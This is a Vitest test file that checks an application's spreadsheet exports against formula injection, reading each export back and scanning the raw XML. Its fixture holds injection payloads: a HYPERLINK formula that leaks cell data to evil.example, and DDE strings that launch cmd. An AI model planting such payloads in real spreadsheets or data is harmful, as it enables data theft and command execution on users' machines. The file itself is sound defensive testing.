import fs from 'node:fs';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoNetwork } from '../../electron/core/demo/load';
import { dispatch } from '../../electron/core/dispatch';
import { openTestStore, tempDir, type TestStore } from '../helpers/store';
import type { ExportFile, ExportJobStatus } from '../../shared/contract/exports';
import { cellText, FORMULA_TRIGGERS, looksLikeFormula } from '../../electron/core/exports/text-safety';

/**
 * Formula injection: texts from imported data that a spreadsheet could evaluate.
 * They are stored in the demo database with kysely, exported, and read back.
 */
const HOSTILE = {
  school: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
  headteacher: '+SUM(1,2)',
  localAuthority: '-2+3',
  phone: "@cmd|' /C calc'!A0",
  email: '\tTAB 1AB',
  www: "=cmd|' /C notepad'!A0",
  ebi: '\r=1+1 after a carriage return',
  manager: '=2+2',
  activity: '+44 (0) 20 — a phone number that looks like a sum',
} as const;

let t: TestStore;
let hubId: number;
beforeAll(async () => {
  t = await openTestStore();
  await loadDemoNetwork(t.ctx);
  const db = t.ctx.db;
  const d = await dispatch(t.ctx, 'hubDashboard', { hubName: 'Aspire Hub', year: '2026/27' });
  if (!d.ok) throw new Error(d.error.message);
  const dash = d.value as { hub: { id: number }; schools: { schoolId: number; qa: { latest: { reviewId: number } | null } }[] };
  hubId = dash.hub.id;
  const target = dash.schools.find((s) => s.qa.latest !== null)!;
  await db
    .updateTable('schools')
    .set({ name: HOSTILE.school, headteacher: HOSTILE.headteacher, local_authority: HOSTILE.localAuthority, phone: HOSTILE.phone, email: HOSTILE.email })
    .where('id', '=', target.schoolId)
    .execute();
  const reviewId = target.qa.latest!.reviewId;
  await db
    .insertInto('qa_review_points')
    .values([
      { review_id: reviewId, kind: 'www', heading: 'leadership', text: HOSTILE.www, position: 90 },
      { review_id: reviewId, kind: 'ebi', heading: null, text: HOSTILE.ebi, position: 91 },
    ])
    .execute();
  await db.updateTable('hub_managers').set({ name: HOSTILE.manager }).where('hub_id', '=', hubId).where('focus', 'is not', null).execute();
  const line = await db
    .selectFrom('action_plan_lines')
    .innerJoin('action_plans', 'action_plans.id', 'action_plan_lines.plan_id')
    .innerJoin('membership_years', 'membership_years.id', 'action_plans.year_id')
    .where('action_plans.hub_id', '=', hubId)
    .where('membership_years.label', '=', '2026/27')
    .select('action_plan_lines.id')
    .executeTakeFirstOrThrow();
  await db.updateTable('action_plan_lines').set({ activity: HOSTILE.activity }).where('id', '=', line.id).execute();
});
afterAll(async () => {
  await t.close();
});

async function hubFile(): Promise<ExportFile> {
  const r = await dispatch(t.ctx, 'exportHubWorkbook', { hubId, year: '2026/27', includeContacts: true });
  if (!r.ok) throw new Error(r.error.message);
  return r.value as ExportFile;
}

/** Every cell of every sheet: no formula anywhere, and where each hostile text landed. */
async function inspect(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const formulas: string[] = [];
  const found = new Map<string, { sheet: string; type: ExcelJS.ValueType; numFmt: string; leads: boolean }[]>();
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.SharedString || cell.formula) formulas.push(`${ws.name}!${cell.address}`);
        if (typeof cell.value !== 'string') return;
        for (const h of Object.values(HOSTILE)) {
          // A workbook cannot hold a carriage return: it is written as a line break (cellText).
          if (cell.value.includes(cellText(h))) found.set(h, [...(found.get(h) ?? []), { sheet: ws.name, type: cell.type, numFmt: cell.numFmt, leads: cell.value.startsWith(cellText(h)) }]);
        }
      }),
    ),
  );
  return { wb, formulas, found };
}

/** The parts of the file itself: no formula element, no external link, no hyperlink. */
async function rawParts(bytes: Buffer) {
  const zip = await JSZip.loadAsync(bytes);
  const names = Object.keys(zip.files);
  const xml = await Promise.all(names.filter((n) => n.endsWith('.xml') || n.endsWith('.rels')).map(async (n) => ({ n, text: await zip.file(n)!.async('string') })));
  return { names, xml };
}

describe('hostile texts from imported data', () => {
  it('the policy covers = + - @ tab and carriage return', () => {
    expect([...FORMULA_TRIGGERS].sort()).toEqual(['\t', '\r', '+', '-', '=', '@'].sort());
    for (const h of Object.values(HOSTILE)) expect(looksLikeFormula(h), JSON.stringify(h)).toBe(true);
    expect(looksLikeFormula('Aspire Hub')).toBe(false);
    expect(cellText('\r=1+1\r\nnext\u0007')).toBe('\n=1+1\nnext');
    expect(cellText(HOSTILE.school)).toBe(HOSTILE.school);
  });

  it('hub workbook: every hostile text round-trips exactly as a string cell with the Text format, and no cell is a formula', async () => {
    const file = await hubFile();
    const bytes = Buffer.from(file.contentBase64, 'base64');
    const { formulas, found } = await inspect(bytes);
    expect(formulas).toEqual([]);
    for (const h of Object.values(HOSTILE)) {
      const cells = found.get(h) ?? [];
      expect(cells.length, `not found: ${JSON.stringify(h)}`).toBeGreaterThan(0);
      for (const c of cells) {
        expect(c.type).toBe(ExcelJS.ValueType.String);
      }
      // A cell that starts with the hostile text carries the Text format (editing keeps it text).
      expect(cells.filter((c) => c.leads).length, JSON.stringify(h)).toBeGreaterThan(0);
      for (const c of cells.filter((x) => x.leads)) expect(c.numFmt, `${c.sheet}: ${JSON.stringify(h)}`).toBe('@');
    }
    // The school's name appears on every sheet that names schools.
    expect(new Set((found.get(HOSTILE.school) ?? []).map((c) => c.sheet))).toEqual(
      new Set(['Schools', 'Ofsted', 'QA outcomes', 'WWWs and EBIs', 'Reviewer commitments', 'Funding and claims']),
    );

    const { names, xml } = await rawParts(bytes);
    expect(names.filter((n) => n.startsWith('xl/externalLinks'))).toEqual([]);
    for (const { n, text } of xml) {
      expect(text, n).not.toMatch(/<f[\s>]/);
      expect(text, n).not.toMatch(/TargetMode="External"/);
      expect(text, n).not.toMatch(/<hyperlink[\s>]/);
    }
  });

  it('network workbook and zip: no formulas, no links, hostile texts as text', async () => {
    for (const layout of ['workbook', 'zip'] as const) {
      const start = await dispatch(t.ctx, 'startNetworkExport', { year: '2026/27', layout, includeContacts: true });
      if (!start.ok) throw new Error(start.error.message);
      let status = start.value as ExportJobStatus;
      while (status.state === 'running') {
        await new Promise((r) => setTimeout(r, 50));
        const next = await dispatch(t.ctx, 'networkExportStatus', { jobId: status.jobId });
        if (!next.ok) throw new Error(next.error.message);
        status = next.value as ExportJobStatus;
      }
      expect(status.state, status.error ?? '').toBe('done');
      const bytes = Buffer.from(status.file!.contentBase64, 'base64');
      const books = layout === 'workbook' ? [bytes] : await Promise.all(Object.values((await JSZip.loadAsync(bytes)).files).map((f) => f.async('nodebuffer')));
      const seen = new Set<string>();
      for (const book of books) {
        const { formulas, found } = await inspect(book);
        expect(formulas).toEqual([]);
        for (const [h, cells] of found) {
          seen.add(h);
          for (const c of cells) expect(c.type).toBe(ExcelJS.ValueType.String);
        }
        const { names, xml } = await rawParts(book);
        expect(names.filter((n) => n.startsWith('xl/externalLinks'))).toEqual([]);
        for (const { n, text } of xml) {
          expect(text, n).not.toMatch(/<f[\s>]/);
          expect(text, n).not.toMatch(/TargetMode="External"/);
        }
      }
      expect([...seen].sort(), layout).toEqual(Object.values(HOSTILE).sort());
    }
  });

  it('a second reader (LibreOffice) shows the hostile texts as text, never their results', async () => {
    const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => fs.existsSync(p));
    const pdftotext = ['/usr/bin/pdftotext'].find((p) => fs.existsSync(p));
    if (!soffice || !pdftotext) {
      console.warn('SKIPPED: LibreOffice (soffice) or pdftotext is not installed; install libreoffice-calc-nogui and poppler-utils to run this check.');
      return;
    }
    const dir = tempDir('hubdesk-export-safety-');
    const xlsx = path.join(dir, 'hostile.xlsx');
    fs.writeFileSync(xlsx, Buffer.from((await hubFile()).contentBase64, 'base64'));
    const r = spawnSync(soffice, ['--headless', `-env:UserInstallation=file://${dir}/profile`, '--convert-to', 'pdf', '--outdir', dir, xlsx], { encoding: 'utf8', timeout: 120_000 });
    expect(r.status, r.stderr).toBe(0);
    const text = spawnSync(pdftotext, ['-layout', path.join(dir, 'hostile.pdf'), '-'], { encoding: 'utf8' }).stdout.replace(/\s+/g, ' ');
    expect(text).toContain('=HYPERLINK(');
    expect(text).toContain('+SUM(1,2)');
    expect(text).toContain('=cmd|');
    expect(text).toContain('=2+2');
  }, 180_000);
});
